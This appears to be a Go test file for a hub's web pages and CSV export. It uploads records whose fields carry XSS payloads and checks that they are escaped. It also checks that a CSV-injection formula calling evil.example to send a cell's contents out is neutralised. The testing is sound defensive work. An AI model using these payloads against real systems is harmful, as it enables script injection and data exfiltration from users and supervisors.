@@ -1,0 +1,171 @@
+package hubweb_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/bcrypt"
+
+	"markd/hub"
+	"markd/hub/hubtest"
+	"markd/hub/hubweb"
+	"markd/internal/testdata"
+	"markd/mark"
+)
+
+// Strings a terminal holding valid credentials chooses, put where the
+// regional pages and the CSV show them (red-team pass, docs/notes/trust.md).
+const (
+	evilID       = `+1<script>alert(1)</script>`
+	evilCounter  = `=HYPERLINK("http://evil.example/?"&A1,"open")<img src=x onerror=alert(2)>`
+	evilOperator = `<i onmouseover=alert(3)>op</i>`
+	evilZone     = `<b>Europe/Evil</b>`
+	evilKeyring  = `<u>k</u>`
+	evilMessage  = `<svg onload=alert(4)>`
+	evilText     = `EPM1:<script>alert(5)</script>`
+	evilRefused  = `-2+3<b>refused</b>`
+)
+
+// TestTerminalStringsOnPages plays a terminal with valid credentials that
+// uploads, through the real API, records whose ids, counter, operator,
+// zone, list versions, message and text are HTML and spreadsheet formulas,
+// on both backends: every page that shows them escapes them, and the
+// CSV a supervisor opens in a spreadsheet holds no cell that starts a
+// formula (OWASP "CSV injection": before, /disputed.csv wrote the
+// counter's =HYPERLINK(…) as it came).
+func TestTerminalStringsOnPages(t *testing.T) {
+	for _, backend := range []string{"sqlite", "postgres"} {
+		t.Run(backend, func(t *testing.T) { testTerminalStringsOnPages(t, backend) })
+	}
+}
+
+func testTerminalStringsOnPages(t *testing.T, backend string) {
+	ctx := t.Context()
+	rs := regionalStore(t, backend)
+	s, ok := rs.(hub.Store)
+	if !ok {
+		t.Fatalf("%T is no hub.Store", rs)
+	}
+	now := testdata.Now()
+	hubtest.Publish(t, s)
+	if err := s.AddTerminal(ctx, hub.Terminal{Name: "office-evil", Office: 426000, TokenHash: hub.HashToken("tok-evil"),
+		Created: now.AddDate(0, -1, 0)}); err != nil {
+		t.Fatal(err)
+	}
+	api := httptest.NewServer(hub.NewServer(s, hub.ServerOptions{Now: func() time.Time { return now }}).Handler())
+	defer api.Close()
+	post := func(q hub.UploadRequest) (int, []byte) {
+		body, _ := json.Marshal(q)
+		req, _ := http.NewRequest(http.MethodPost, api.URL+"/v1/upload", bytes.NewReader(body))
+		req.Header.Set("Authorization", "Bearer tok-evil")
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		raw, _ := io.ReadAll(resp.Body)
+		return resp.StatusCode, raw
+	}
+	// A real mark of office 101000 accepted at 426000: disputed
+	// (WRONG_OFFICE), so it is on /alerts and in /disputed.csv.
+	m := hubtest.TestMark(91001, 101000)
+	m.Issued, m.ValidUntil = mark.DayOf(now.AddDate(0, -1, 0)), mark.DayOf(now.AddDate(0, 1, 0))
+	f := m.Fields()
+	off := int32(3 * 3600)
+	disputed := hubtest.Rec(evilID, 426000, evilCounter, mark.Accept, 0)
+	disputed.Mark, disputed.Text, disputed.At = &f, hubtest.Sign(m), now.Add(-time.Hour)
+	disputed.Operator, disputed.AtZone, disputed.AtOffset, disputed.Message = evilOperator, evilZone, &off, evilMessage
+	disputed.Versions.Keyring = evilKeyring
+	// A made-up mark: unverified, on /unverified with its text.
+	forged := hubtest.Rec("forged-1", 426000, evilCounter, mark.Accept, 0)
+	fm := hubtest.TestMark(91002, 426000)
+	ff := fm.Fields()
+	forged.Mark, forged.Text, forged.At = &ff, evilText, now.Add(-30*time.Minute)
+	forged.Versions.Keyring = evilKeyring // the newest record: its lists are on the fleet page
+	if code, raw := post(hub.UploadRequest{Records: []hub.Record{disputed, forged}}); code != http.StatusOK ||
+		!strings.Contains(string(raw), `"disputed":1`) || !strings.Contains(string(raw), `"unverified":1`) {
+		t.Fatalf("upload: %d %s", code, raw)
+	}
+	// A refused record (a negative weight): on /refused with its id.
+	bad := hubtest.Rec(evilRefused, 426000, "1", mark.NotAMark, 0)
+	bad.MeasuredWeightG = -1
+	if code, raw := post(hub.UploadRequest{Records: []hub.Record{bad}}); code != http.StatusBadRequest {
+		t.Fatalf("refused upload: %d %s", code, raw)
+	}
+
+	hash, err := bcrypt.GenerateFromPassword([]byte(supPass), bcrypt.MinCost)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := rs.AddUser(ctx, supName, string(hash), now); err != nil {
+		t.Fatal(err)
+	}
+	pages, err := hubweb.New(hubweb.Options{Store: rs, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: func() time.Time { return now }})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ts := httptest.NewServer(pages.Handler())
+	defer ts.Close()
+	b := newBrowser(t, ts.URL)
+	b.login(supName, supPass)
+
+	raw := []string{"<script>", "<img ", "<i ", "<b>", "<u>", "<svg "}
+	shown := map[string]string{ // page: an escaped payload it must show
+		"/":           "&lt;u&gt;k&lt;/u&gt;",
+		"/alerts":     "&lt;script&gt;alert(1)&lt;/script&gt;",
+		"/unverified": "&lt;img src=x onerror=alert(2)&gt;",
+		"/refused":    "&lt;b&gt;refused&lt;/b&gt;",
+		"/lookup?by=serial&q=" + strconv.Itoa(91001): "&lt;img src=x onerror=alert(2)&gt;",
+	}
+	for path, want := range shown {
+		code, page, _ := b.do(http.MethodGet, path, nil)
+		if code != http.StatusOK {
+			t.Fatalf("%s: %d", path, code)
+		}
+		for _, r := range raw {
+			if strings.Contains(page, r) {
+				t.Errorf("%s holds %q unescaped", path, r)
+			}
+		}
+		if !strings.Contains(page, want) {
+			t.Errorf("%s does not show %q", path, want)
+		}
+	}
+
+	code, body, h := b.do(http.MethodGet, "/disputed.csv", nil)
+	if code != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
+		t.Fatalf("/disputed.csv: %d %s", code, h.Get("Content-Type"))
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("/disputed.csv: %d rows, %v\n%s", len(rows), err, body)
+	}
+	for i, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+			t.Errorf("/disputed.csv column %s starts a formula: %q", rows[0][i], cell)
+		}
+	}
+	col := map[string]string{}
+	for i, name := range rows[0] {
+		col[name] = rows[1][i]
+	}
+	// Kept whole behind the quote that makes it text: nothing is lost.
+	if col["counter"] != "'"+evilCounter || col["record_id"] != "'"+evilID {
+		t.Errorf("/disputed.csv counter %q, record_id %q", col["counter"], col["record_id"])
+	}
+	// The stored record is what the terminal sent.
+	got, err := s.Record(ctx, "office-evil", evilID)
+	if err != nil || got.Counter != evilCounter || got.Operator != evilOperator || got.Message != evilMessage {
+		t.Errorf("stored %+v %v", got, err)
+	}
+}
